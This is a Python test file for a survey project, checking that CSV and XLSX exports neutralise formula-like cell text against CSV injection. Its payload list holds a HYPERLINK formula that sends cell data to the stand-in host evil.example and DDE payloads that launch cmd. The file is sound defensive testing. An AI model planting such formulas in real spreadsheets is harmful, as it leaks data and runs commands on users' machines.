"""Formula-like text is neutralised for spreadsheets (OWASP "CSV Injection"); numbers stay."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from survey.fieldwork_exports import to_csv, to_xlsx
from survey.spreadsheet_cells import safe_cell, safe_row

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_a_leading_apostrophe(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


def test_other_values_are_left_alone() -> None:
    assert safe_row(
        ["Cán bộ nhiệt tình", "a=b", "", None, -3, -0.5, 7, True, date(2026, 9, 1)]
    ) == [
        "Cán bộ nhiệt tình",
        "a=b",
        "",
        None,
        -3,
        -0.5,
        7,
        True,
        date(2026, 9, 1),
    ]


def test_xlsx_writes_neutralised_text_as_string_cells_and_numbers_as_numbers() -> None:
    content = to_xlsx(["comment", "score"], [[p, -1.5] for p in PAYLOADS], sheet="responses")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    # (XML reads a stored carriage return back as a line feed.)
    assert [c.value for c, _ in cells] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert {c.data_type for c, _ in cells} == {"s"}  # never "f" (formula)
    assert {(s.value, s.data_type) for _, s in cells} == {(-1.5, "n")}


def test_csv_neutralises_header_and_cells() -> None:
    text = to_csv(["=A1", "n"], [["@x", -2]])
    assert text == "\ufeff'=A1,n\r\n'@x,-2\r\n"
